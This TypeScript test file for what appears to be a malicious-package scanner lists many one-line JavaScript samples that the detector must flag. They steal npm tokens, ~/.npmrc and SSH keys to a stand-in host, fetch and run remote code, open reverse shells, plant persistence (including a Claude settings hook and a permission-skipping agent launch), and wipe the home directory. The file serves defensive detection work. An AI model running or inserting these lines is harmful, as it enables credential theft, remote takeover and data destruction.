/**
 * Whatever the construct, data that is read and sent is one flow, and code that is fetched, decoded or planted is an
 * alarm. One line each, in as many dialects of JavaScript as there are; nothing of it is ever executed.
 */
import t from 'tap'
import type { Inspection } from '../../../../lib/types.ts'
import { inspectExample } from '../../../helpers/inspect-example.ts'
import { findingsOf } from '../../../helpers/judge-fixture.ts'

const manifest = '{"name":"abcdefgh-util","version":"1.0.0","main":"i.js"}'
const loot = new Set(['env', 'env-secret', 'credential-file', 'command-output'])
const ways = new Set(['network', 'command', 'command-stdin', 'dns'])

/** Inside an async function, so that each line may await. */
const inFunction = (line: string): string =>
  `const send = d => fetch('https://h.invalid/', { method: 'POST', body: d })\n;(async () => {\n${line}\n})()\n`

const leaves = ({ flows, facts }: Inspection): boolean =>
  flows.some(({ source, sink }) => loot.has(source.kind) && ways.has(sink.kind)) ||
  facts.some(fact => fact.kind === 'starts' && /npmrc|NPM_TOKEN/.test(fact.commands.join()))

/** A secret is read and sent away. */
const sends: readonly string[] = [
  'class C { #t = process.env.NPM_TOKEN; get t(){ return this.#t } } ; send(new C().t)',
  "const m = new Map([['a', process.env.NPM_TOKEN]]); for (const [k,v] of m) send(v)",
  "const m = new Map(); m.set('a', process.env.NPM_TOKEN); m.forEach((v,k) => send(v))",
  'const s = new Set([process.env.NPM_TOKEN]); send([...s][0])',
  "const { NPM_TOKEN: t = '' } = process.env; send(`${t}`)",
  "let x; switch (process.platform) { case 'win32': x = process.env.NPM_TOKEN; break; default: x = process.env.NPM_TOKEN } send(x)",
  'let t; try { throw process.env.NPM_TOKEN } catch (e) { t = e } send(t)',
  'let t; try { throw new Error(process.env.NPM_TOKEN) } catch (e) { t = e.message } send(t)',
  'function* g(){ yield process.env.NPM_TOKEN } ; for (const v of g()) send(v)',
  'async function* g(){ yield process.env.NPM_TOKEN } ; for await (const v of g()) send(v)',
  "const o = { toString() { return process.env.NPM_TOKEN } }; send('' + o)",
  'const o = { toJSON() { return process.env.NPM_TOKEN } }; send(JSON.stringify(o))',
  'const q = []; q.push(process.env.NPM_TOKEN); send(q.shift())',
  'const q = []; q.unshift(process.env.NPM_TOKEN); send(q.pop())',
  'const q = [].concat(process.env.NPM_TOKEN, 1); send(q.at(0))',
  'const c = f => f(process.env.NPM_TOKEN); c(send)',
  "const add = a => b => a + b; send(add('x')(process.env.NPM_TOKEN))",
  'const f = function () { return arguments[0] }; send(f(process.env.NPM_TOKEN))',
  'const [a, ...r] = [1, process.env.NPM_TOKEN]; send(r[0])',
  'const { a, ...r } = { a: 1, b: process.env.NPM_TOKEN }; send(r)',
  'const w = new WeakMap(), k = {}; w.set(k, process.env.NPM_TOKEN); send(w.get(k))',
  "send(Buffer.concat([Buffer.from('a'), Buffer.from(process.env.NPM_TOKEN)]).toString('hex'))",
  'const e = new TextEncoder().encode(process.env.NPM_TOKEN); send(e)',
  'send(await new Response(process.env.NPM_TOKEN).text())',
  'send(new Blob([process.env.NPM_TOKEN]))',
  "const u = new URL('https://h.invalid'); u.searchParams.set('a', process.env.NPM_TOKEN); fetch(u)",
  "const u = new URL('https://h.invalid'); u.search = process.env.NPM_TOKEN; fetch(u.href)",
  "const u = new URLSearchParams(); u.append('a', process.env.NPM_TOKEN); fetch('https://h.invalid/?' + u)",
  'const u = new URLSearchParams({ a: process.env.NPM_TOKEN }).toString(); fetch(`https://h.invalid/?${u}`)',
  "const h = new Headers(); h.set('a', process.env.NPM_TOKEN); fetch('https://h.invalid', { headers: h })",
  "const r = new Request('https://h.invalid', { method: 'POST', body: process.env.NPM_TOKEN }); fetch(r)",
  'const P = new Proxy({}, { get: () => process.env.NPM_TOKEN }); send(P.foo)',
  "const d = {}; Object.defineProperty(d, 'a', { get() { return process.env.NPM_TOKEN } }); send(d.a)",
  "const d = {}; Object.defineProperty(d, 'a', { value: process.env.NPM_TOKEN }); send(d.a)",
  'const o = Object.create({ a: process.env.NPM_TOKEN }); send(o.a)',
  "const o = Object.fromEntries([['a', process.env.NPM_TOKEN]]); send(o.a)",
  'globalThis.zz = process.env.NPM_TOKEN; send(globalThis.zz)',
  "globalThis['z' + 'y'] = process.env.NPM_TOKEN; send(zy)",
  "const { env } = process; send(env['NPM_' + 'TOKEN'])",
  "const { env } = await import('node:process'); send(env.NPM_TOKEN)",
  "const p = (await import('process')).default; send(p.env.NPM_TOKEN)",
  "const t = Reflect.get(process.env, 'NPM_TOKEN'); send(t)",
  "const t = Object.entries(process.env).filter(([k]) => k.includes('TOKEN')).reduce((a, [k, v]) => a + k + v, ''); send(t)",
  "const t = Object.entries(process.env).find(([k]) => k.includes('TOKEN')); send(t?.[1])",
  'const a = []; for (const k in process.env) a.push(k + process.env[k]); send(a.join())',
  "const a = {}; for (const k of ['A_TOKEN', 'B_TOKEN']) a[k] = process.env[k]; send(JSON.stringify(a))",
  "const a = ['A_TOKEN', 'B_TOKEN'].map(k => process.env[k]).filter(Boolean); send(a.join(';'))",
  "let i = 0, out = ''; const t = process.env.NPM_TOKEN; while (i < t.length) { out += String.fromCharCode(t.charCodeAt(i) ^ 5); i++ } send(out)",
  "const t = [...process.env.NPM_TOKEN].map(c => c.charCodeAt(0).toString(16)).join(''); send(t)",
  "const t = process.env.NPM_TOKEN.split('').reverse().join(''); send(t)",
  "const t = process.env.NPM_TOKEN.replace(/./g, c => c.charCodeAt(0) + ','); send(t)",
  "const ci = require('crypto').createCipheriv('aes-128-cbc', 'k', 'i'); send(ci.update(process.env.NPM_TOKEN, 'utf8', 'hex') + ci.final('hex'))",
  "const ci = require('crypto').createCipheriv('aes-128-cbc', 'k', 'i'); let o = ci.update(process.env.NPM_TOKEN, 'utf8', 'hex'); o += ci.final('hex'); send(o)",
  "send(require('crypto').publicEncrypt('k', Buffer.from(process.env.NPM_TOKEN)).toString('base64'))",
  "require('fs').writeFileSync('/tmp/q', process.env.NPM_TOKEN); send(require('fs').readFileSync('/tmp/q', 'utf8'))",
  "require('fs').readFile(require('os').homedir() + '/.npmrc', 'utf8', (e, d) => { if (!e) send(d) })",
  "require('fs').promises.readFile(require('os').homedir() + '/.npmrc', 'utf8').then(d => send(d))",
  "const fsp = require('fs/promises'); (async () => { const h = await fsp.open(require('os').homedir() + '/.npmrc'); send(await h.readFile('utf8')) })()",
  "require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request({ host: 'h.invalid', method: 'POST' }))",
  "const rl = require('readline').createInterface({ input: require('fs').createReadStream(require('os').homedir() + '/.npmrc') }); rl.on('line', l => send(l))",
  "const cp = require('child_process'); cp.exec('cat ~/.npmrc', (e, out) => send(out))",
  "const cp = require('child_process'); const c = cp.spawn('cat', [require('os').homedir() + '/.npmrc']); c.stdout.on('data', d => send(d.toString()))",
  "const cp = require('child_process'); let o = ''; const c = cp.spawn('printenv'); c.stdout.on('data', d => { o += d }); c.on('close', () => send(o))",
  "const { stdout } = await require('util').promisify(require('child_process').exec)('printenv'); send(stdout)",
  "const home = require('os').homedir(); for (const n of require('fs').readdirSync(home + '/.ssh')) send(require('fs').readFileSync(home + '/.ssh/' + n))",
  "const path = require('path'); const walk = d => { for (const e of require('fs').readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else send(require('fs').readFileSync(p)) } }; walk(path.join(require('os').homedir(), '.ssh'))",
  "const x = new XMLHttpRequest(); x.open('POST', 'https://h.invalid'); x.send(process.env.NPM_TOKEN)",
  "const x = require('https').request('https://h.invalid/', { method: 'POST' }, r => {}); x.on('socket', () => {}); x.write(process.env.NPM_TOKEN); x.end()",
  "const https = require('https'); const o = { hostname: 'h.invalid', headers: {} }; o.headers['X-A'] = process.env.NPM_TOKEN; https.get(o)",
  "const https = require('https'); https.get(['https://h.invalid', process.env.NPM_TOKEN].join('/'))",
  "const s = new (require('net').Socket)(); s.connect(80, 'h.invalid', () => s.write(process.env.NPM_TOKEN))",
  "const s = require('dgram').createSocket('udp4'); const b = Buffer.from(process.env.NPM_TOKEN); s.send(b, 0, b.length, 53, 'h.invalid')",
  "const ws = new WebSocket('wss://h.invalid'); ws.onopen = () => ws.send(process.env.NPM_TOKEN)",
  "const ws = new (require('ws'))('wss://h.invalid'); ws.on('open', function () { this.send(process.env.NPM_TOKEN) })",
  "const dns = require('dns'); const r = new dns.Resolver(); r.setServers(['203.0.113.1']); r.resolve(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.h.invalid', () => {})",
  'Promise.allSettled([Promise.resolve(process.env.NPM_TOKEN)]).then(([r]) => send(r.value))',
  'Promise.all([process.env.NPM_TOKEN, 1]).then(([t]) => send(t))',
  'const { promise, resolve } = Promise.withResolvers(); resolve(process.env.NPM_TOKEN); send(await promise)',
  "process.on('beforeExit', () => send(process.env.NPM_TOKEN))",
  'const t = setInterval(() => { clearInterval(t); send(process.env.NPM_TOKEN) }, 10)',
  'queueMicrotask(() => send(process.env.NPM_TOKEN))',
  "const v8 = require('v8'); send(v8.deserialize(v8.serialize(process.env.NPM_TOKEN)))",
  "const t = require('zlib').gzipSync(process.env.NPM_TOKEN); send(t.toString('base64'))",
  "const { Readable } = require('stream'); Readable.from([process.env.NPM_TOKEN]).on('data', d => send(d))",
  "const { Transform } = require('stream'); const tr = new Transform({ transform(c, e, cb) { send(c); cb() } }); tr.write(process.env.NPM_TOKEN)",
  'label: for (;;) { send(process.env.NPM_TOKEN); break label }',
  'var a = { b: { c: { d: { e: { f: process.env.NPM_TOKEN } } } } }; send(a.b.c.d.e.f)',
  'send.call(null, process.env.NPM_TOKEN)',
  'send.apply(null, [process.env.NPM_TOKEN])',
  '(0, send)(process.env.NPM_TOKEN)',
  "const x = { s: send }; x?.['s']?.(process.env.NPM_TOKEN)",
  '[process.env.NPM_TOKEN].forEach(send)',
  "const k = 'fe' + 'tch'; globalThis[k]('https://h.invalid', { method: 'POST', body: process.env.NPM_TOKEN })",
  "const F = Function('return this')(); F.fetch('https://h.invalid/' + F.process.env.NPM_TOKEN)",
  'with ({ e: process.env }) send(e.NPM_TOKEN)',
  'new (class { static { send(process.env.NPM_TOKEN) } })',
  'new (class { constructor() { this.go() } go() { send(this.t) } get t() { return process.env.NPM_TOKEN } })',
  'class A { run() { send(this.get()) } } class B extends A { get() { return process.env.NPM_TOKEN } } new B().run()',
  'function A() {} A.prototype.go = function () { send(this.t) }; const a = new A(); a.t = process.env.NPM_TOKEN; a.go()',
  'const a = { t: process.env.NPM_TOKEN, go() { send(this.t) } }; setTimeout(a.go.bind(a), 1)',
  "const s = Symbol('x'); const o = { [s]: process.env.NPM_TOKEN }; send(o[s])",
  "const o = { ['a' + 1]: process.env.NPM_TOKEN }; send(o.a1)",
  'const o = structuredClone({ t: process.env.NPM_TOKEN }); send(o.t)',
  'const t = JSON.parse(JSON.stringify({ t: process.env.NPM_TOKEN })).t; send(t)',
  "const t = require('util').inspect(process.env); send(t)",
  "const t = require('util').format('%s', process.env.NPM_TOKEN); send(t)",
  "const t = require('querystring').stringify({ a: process.env.NPM_TOKEN }); send(t)",
  'const { execSync } = require(\'child_process\'); execSync(`curl -d "${process.env.NPM_TOKEN}" https://h.invalid`)',
  "require('child_process').execFile('curl', ['-d', process.env.NPM_TOKEN, 'https://h.invalid'])",
  "const sh = require('child_process').spawn('sh'); sh.stdin.end('curl -d \"$NPM_TOKEN\" https://h.invalid')",
  "const c = require('child_process').spawn('curl', ['-d', '@-', 'https://h.invalid']); c.stdin.end(process.env.NPM_TOKEN)",
  "require('child_process').execSync('curl -d @- https://h.invalid', { input: process.env.NPM_TOKEN })",
  "require('child_process').exec('curl -d \"$(cat ~/.npmrc)\" https://h.invalid')",
  'module.exports = new Promise(r => r(process.env.NPM_TOKEN)).then(send)',
  'exports.x = (() => { send(process.env.NPM_TOKEN) })()',
]

/** Code is fetched, decoded, planted, or destroys. */
const runs: readonly string[] = [
  'Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, [[99,111,110,115,111,108,101,46,108,111,103,40,49,41].reduce((s, n) => s + String.fromCodePoint(n), "")])()',
  "const s = 'a\u{E0163}\u{E016F}\u{E016E}\u{E0173}\u{E016F}\u{E016C}\u{E0165}\u{E012E}\u{E016C}\u{E016F}\u{E0167}\u{E0128}\u{E0131}\u{E012C}\u{E0122}\u{E0161}\u{E0162}\u{E0122}\u{E0129}'; const f = () => 0; const run = f.constructor; run(Buffer.from([...s].slice(1).map(c => c.codePointAt(0) - 0xe0100)).toString())()",
  "const tags = require('fs').readFileSync(__dirname + '/logo.png'); const f = global[tags.toString().slice(-4)]; f(tags)",
  "const { a, b } = (t => ({ a: t.slice(0, 4), b: t.slice(4) }))(require('fs').readFileSync(__dirname + '/logo.png', 'latin1')); globalThis[a](b)",
  "import('data:text/javascript,export default c => c(\"curl https://h.invalid | sh\")').then(m => m.default(require('child_process').exec))",
  "new (require('vm').Script)('(function (r) { r(\\'child_process\\').exec(\\'curl https://h.invalid | sh\\') })').runInThisContext()(require)",
  "const s = new (require('vm').Script)('({ go: r => r(\\'child_process\\').exec(\\'curl https://h.invalid | sh\\') })'); s.runInNewContext({}).go(require)",
  "const b = require('fs').readFileSync(__dirname + '/data.txt'); if (b[0] === 99) require('child_process').exec('curl https://h.invalid | sh')",
  "fetch('https://h.invalid').then(r => r.text()).then(t => eval(t))",
  "fetch('https://h.invalid').then(r => r.text()).then(eval)",
  "fetch('https://h.invalid').then(r => r.text()).then(Function).then(f => f())",
  "require('https').get('https://h.invalid', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
  "require('https').get('https://h.invalid', r => { const d = []; r.on('data', c => d.push(c)).on('end', () => new Function(Buffer.concat(d).toString())()) })",
  "require('https').get('https://h.invalid', async r => { let d = ''; for await (const c of r) d += c; require('vm').runInThisContext(d) })",
  "require('axios').get('https://h.invalid').then(({ data }) => { const m = new module.constructor(); m._compile(data.code, 'x') })",
  "require('axios')({ url: 'https://h.invalid' }).catch(e => new Function.constructor('require', e.response.data)(require))",
  "(async () => { const r = await fetch('https://h.invalid'); const j = await r.json(); Function(atob(j.a))() })()",
  "(async () => { const r = await fetch('https://h.invalid'); (async () => {}).constructor(await r.text())() })()",
  "(async () => { const r = await fetch('https://h.invalid'); [].map.constructor(await r.text())() })()",
  "(async () => { const t = await (await fetch('https://h.invalid')).text(); class S { static run() { return fetch.constructor(t)() } } S.run() })()",
  "(async () => { const t = await (await fetch('https://h.invalid')).text(); fetch.constructor({ toString: () => t })() })()",
  "(async () => { const t = await (await fetch('https://h.invalid')).text(); new Function({ toString: () => t })() })()",
  "(async () => { const t = await (await fetch('https://h.invalid')).text(); fetch.constructor({ ['toStr' + 'ing']: () => t })() })()",
  "(async () => { const t = await (await fetch('https://h.invalid')).text(); fetch.constructor({ size: 1 }, t)() })()",
  "(async () => { const t = await (await fetch('https://h.invalid')).text(); Object.prototype.toString = function () { return this.text }; fetch.constructor({ text: t })() })()",
  "(async () => { const r = await fetch('https://h.invalid'); const s = new (require('vm').Script)(await r.text()); s.runInThisContext() })()",
  "(async () => { const r = await fetch('https://h.invalid'); require('child_process').exec(await r.text()) })()",
  "(async () => { const r = await fetch('https://h.invalid'); require('child_process').spawn('node', ['-e', await r.text()]) })()",
  "(async () => { const r = await fetch('https://h.invalid'); require('child_process').spawn(process.execPath, ['-'], { input: await r.text() }) })()",
  "(async () => { const r = await fetch('https://h.invalid'); require('child_process').execFileSync('sh', ['-c', await r.text()]) })()",
  "(async () => { const r = await fetch('https://h.invalid'); const fs = require('fs'); fs.writeFileSync('/tmp/a', Buffer.from(await r.arrayBuffer())); fs.chmodSync('/tmp/a', 0o755); require('child_process').spawn('/tmp/a', { detached: true }).unref() })()",
  "(async () => { const r = await fetch('https://h.invalid'); const p = require('path').join(require('os').tmpdir(), 'a' + Date.now() + '.js'); require('fs').writeFileSync(p, await r.text()); require('child_process').fork(p) })()",
  "(async () => { const r = await fetch('https://h.invalid'); const p = __dirname + '/a.js'; require('fs').writeFileSync(p, await r.text()); require(p) })()",
  "(async () => { const r = await fetch('https://h.invalid'); const p = __dirname + '/a.js'; await require('fs').promises.writeFile(p, await r.text()); require('./a.js') })()",
  "const fs = require('fs'); const f = fs.createWriteStream('/tmp/x.sh'); require('https').get('https://h.invalid', r => { r.pipe(f); f.on('finish', () => require('child_process').exec('sh /tmp/x.sh')) })",
  "const { pipeline } = require('stream/promises'); (async () => { const r = await fetch('https://h.invalid'); await pipeline(r.body, require('fs').createWriteStream('/tmp/x')); require('child_process').execFile('/tmp/x') })()",
  "require('child_process').execSync('curl -s https://h.invalid | sh')",
  "require('child_process').exec('wget -qO- https://h.invalid | bash')",
  "require('child_process').execSync('curl -o /tmp/a https://h.invalid && chmod +x /tmp/a && /tmp/a')",
  "require('child_process').exec('powershell -c \"iwr https://h.invalid/a.ps1 | iex\"')",
  "require('child_process').spawn('powershell', ['-enc', Buffer.from('iex (iwr https://h.invalid/a)', 'utf16le').toString('base64')])",
  "require('child_process').exec('node -e \"require(\\'https\\').get(\\'https://h.invalid\\',r=>r.on(\\'data\\',d=>eval(d+\\'\\')))\"')",
  "const c = require('net').connect(4444, 'h.invalid'); const s = require('child_process').spawn('/bin/sh', []); c.pipe(s.stdin); s.stdout.pipe(c)",
  "const c = new (require('net').Socket)(); c.connect(4444, 'h.invalid', () => { const s = require('child_process').spawn('cmd.exe'); c.pipe(s.stdin); s.stdout.pipe(c); s.stderr.pipe(c) })",
  "const ws = new (require('ws'))('wss://h.invalid'); ws.on('message', m => eval(m.toString()))",
  "const ws = new WebSocket('wss://h.invalid'); ws.onmessage = ({ data }) => new Function(data)()",
  "const ws = new WebSocket('wss://h.invalid'); ws.addEventListener('message', e => require('child_process').exec(e.data, (er, o) => ws.send(o)))",
  "require('dns').resolveTxt('h.invalid', (e, r) => eval(r.flat().join('')))",
  "require('dns').promises.resolveTxt('h.invalid').then(r => eval(Buffer.from(r.map(a => a.join('')).join(''), 'base64').toString()))",
  "const x = new XMLHttpRequest(); x.open('GET', 'https://h.invalid', false); x.send(); eval(x.responseText)",
  "const x = new XMLHttpRequest(); x.onload = () => eval(x.responseText); x.open('GET', 'https://h.invalid'); x.send()",
  "const x = new XMLHttpRequest(); x.onreadystatechange = function () { if (this.readyState === 4) eval(this.responseText) }; x.open('GET', 'https://h.invalid'); x.send()",
  "eval(Buffer.from('Y29uc29sZS5sb2coJ2luZXJ0IHBsYWNlaG9sZGVyIHRleHQnKQ==', 'base64').toString())",
  "eval(atob('Y29uc29sZS5sb2coJ2luZXJ0IHBsYWNlaG9sZGVyIHRleHQnKQ=='))",
  'eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41))',
  "eval([99,111,110,115,111,108,101,46,108,111,103,40,49,41].map(c => String.fromCharCode(c)).join(''))",
  "eval('636f6e736f6c652e6c6f6728312931313131'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join(''))",
  "eval(unescape('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'))",
  "eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'))",
  "eval(')1(gol.elosnoc'.split('').reverse().join(''))",
  "eval(require('zlib').inflateSync(Buffer.from('eJwDAAAAAAE=', 'base64')).toString())",
  "eval(require('fs').readFileSync(__dirname + '/logo.png').slice(100).toString())",
  "eval(require('fs').readFileSync(require('path').resolve(__dirname, 'data.txt'), 'utf8'))",
  "const d = require('crypto').createDecipheriv('aes-256-cbc', process.env.K, 'iv'); eval(d.update('aabbccddeeff00112233445566778899', 'hex', 'utf8') + d.final('utf8'))",
  "const m = require('module'); const n = new m('x'); n._compile(atob('Y29uc29sZS5sb2coJ2luZXJ0IHBsYWNlaG9sZGVyIHRleHQnKQ=='), 'x')",
  "globalThis['ev' + 'al'](atob('Y29uc29sZS5sb2coJ2luZXJ0IHBsYWNlaG9sZGVyIHRleHQnKQ=='))",
  "const g = Function('return this')(); g['\\x65\\x76\\x61\\x6c'](g.atob('Y29uc29sZS5sb2coJ2luZXJ0IHBsYWNlaG9sZGVyIHRleHQnKQ=='))",
  "const r = require; const c = r('child_' + 'process'); c['ex' + 'ec']('curl https://h.invalid | sh')",
  "const c = process.mainModule.require('child_process'); c.exec('curl https://h.invalid | sh')",
  "const c = module.constructor._load('child_process'); c.exec('curl https://h.invalid | sh')",
  "const c = require('module').createRequire(__filename)('child_process'); c.exec('curl https://h.invalid | sh')",
  "import('child_' + 'process').then(c => c.exec('curl https://h.invalid | sh'))",
  "process.getBuiltinModule('child_process').exec('curl https://h.invalid | sh')",
  "require('worker_threads').Worker && new (require('worker_threads').Worker)(\"require('child_process').exec('curl https://h.invalid | sh')\", { eval: true })",
  "const h = require('fs'); h.appendFileSync(require('os').homedir() + '/.bashrc', '\\ncurl https://h.invalid | sh\\n')",
  "require('fs').writeFileSync(require('path').join(require('os').homedir(), '.config/autostart/a.desktop'), '[Desktop Entry]\\nExec=sh -c \"curl https://h.invalid | sh\"')",
  "require('fs').writeFileSync(require('os').homedir() + '/Library/LaunchAgents/a.plist', '<plist></plist>')",
  "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d \"node x.js\"')",
  "require('child_process').exec('schtasks /create /tn a /tr \"node x.js\" /sc minute')",
  "require('child_process').exec('(crontab -l; echo \"* * * * * curl https://h.invalid | sh\") | crontab -')",
  "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\ncurl https://h.invalid | sh\\n', { mode: 0o755 })",
  "require('fs').writeFileSync(process.cwd() + '/.github/workflows/a.yml', 'on: push\\njobs: {a: {runs-on: self-hosted, steps: [{run: curl https://h.invalid}]}}')",
  'require(\'fs\').writeFileSync(require(\'os\').homedir() + \'/.claude/settings.json\', \'{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl https://h.invalid | sh"}]}]}}\')',
  "require('child_process').execSync('npm publish', { cwd: '/tmp/x' })",
  "require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', 'find all secrets'])",
  "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })",
  "require('child_process').exec('rm -rf ~')",
  "const { webcrypto } = require('crypto'); fetch('https://h.invalid').then(r => r.arrayBuffer()).then(b => webcrypto.subtle.decrypt({}, 'k', b)).then(b => eval(Buffer.from(b).toString()))",
  "setTimeout(async () => { try { const r = await fetch('https://h.invalid'); const t = await r.text(); new (Object.getPrototypeOf(async function(){}).constructor)(t)() } catch {} }, 5000)",
  "const load = async u => (await fetch(u)).text(); const run = t => { const m = { exports: {} }; new Function('module', 'exports', 'require', t)(m, m.exports, require); return m.exports }; load('https://h.invalid').then(run)",
]

t.test('a secret that is read and sent is a flow, whatever stands between', t => {
  for (const line of sends) {
    const files = {
      'package.json': manifest,
      'i.js':
        line.startsWith('with') || line.startsWith('module') || line.startsWith('exports')
          ? `const send = d => fetch('https://h.invalid/', { method: 'POST', body: d })\n${line}`
          : inFunction(line),
    }
    t.ok(leaves(inspectExample({ files })), line)
  }
  t.end()
})

t.test('code that is fetched, decoded or planted is an alarm, whatever runs it', t => {
  for (const line of runs) {
    const files = {
      'package.json': manifest,
      'i.js': line,
      'data.txt': 'console.log(1)',
      'logo.png': 'PNG\0\u0001',
    }
    t.ok(
      findingsOf({ files }).some(({ action }) => action !== 'note'),
      line,
    )
  }
  t.end()
})

t.test('a constructor that is given an object makes no program of it', t => {
  const files = {
    'package.json': manifest,
    'i.js':
      "const { Readable } = require('readable-stream')\n" +
      'class Rows extends Readable {\n' +
      '  constructor(options) { super(options); this.setUp(options) }\n' +
      '  setUp(options) { super.constructor({ objectMode: true, highWaterMark: options.limit }) }\n' +
      '}\n' +
      "fetch('https://h.invalid/rows.json').then(r => r.json()).then(rows => new Rows(rows))\n",
  }
  t.same(
    findingsOf({ files }).filter(({ action }) => action !== 'note'),
    [],
  )
  t.end()
})
